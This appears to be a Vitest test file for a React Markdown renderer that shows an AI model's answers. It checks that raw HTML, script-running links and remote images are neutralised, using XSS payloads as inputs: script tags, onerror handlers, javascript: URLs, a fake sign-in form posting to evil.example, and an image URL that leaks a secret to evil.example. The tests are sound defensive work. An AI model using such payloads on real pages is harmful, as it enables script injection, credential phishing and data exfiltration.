import { render, screen, within } from "@testing-library/react";
import { expect, test } from "vitest";
import { Markdown } from "./Markdown";

function show(text: string, streaming = false): HTMLElement {
  return render(<Markdown text={text} streaming={streaming} />).container;
}

test("lists, code and tables", () => {
  show("Today:\n\n- milk\n- `bread`\n\n```sh\nls\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  const [list] = screen.getAllByRole("list");
  expect(
    within(list as HTMLElement)
      .getAllByRole("listitem")
      .map((item) => item.textContent),
  ).toEqual(["milk", "bread"]);
  expect(screen.getByText("ls").closest("pre")).toHaveAttribute("tabindex", "0");
  expect(screen.getByRole("table")).toBeInTheDocument();
});

test.each([
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<iframe src='//evil.example'></iframe>",
  "<style>*{display:none}</style>",
  "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
  "a <b onmouseover=alert(1)>b</b>",
  "<svg><script>alert(1)</script></svg>",
  "<details open ontoggle=alert(1)>",
  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
])("HTML is text: %s", (text) => {
  const container = show(text);
  expect(container.querySelector("img, script, iframe, style, a, b, svg, details, form, input, button")).toBeNull();
  expect(container.textContent).toContain("<");
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
])("an address that could run something is not one: %s", (text) => {
  for (const link of show(text).querySelectorAll("a")) expect(link.protocol).toMatch(/^https?:$/);
});

test("links leave the page to itself", () => {
  show("[site](https://example.com/?a=1)");
  const link = screen.getByRole("link", { name: "site" });
  expect(link).toHaveAttribute("href", "https://example.com/?a=1");
  expect(link).toHaveAttribute("rel", "noopener noreferrer");
});

test("an image is its words: nothing is loaded from an address that the model chose", () => {
  const container = show("![my tasks](https://evil.example/?leak=secret)");
  expect(container.querySelector("img")).toBeNull();
  expect(container).toHaveTextContent("my tasks");
});

test("headings do not skip a level of the page", () => {
  show("# One\n\n### Two");
  expect(screen.getAllByRole("heading", { level: 2 })).toHaveLength(2);
});

test("half-written syntax is held back while the answer streams, and shown as it is at the end", () => {
  expect(show("I added **buy", true)).not.toHaveTextContent("**");
  expect(show("2 ** 3 and *args", false)).toHaveTextContent("2 ** 3 and *args");
});
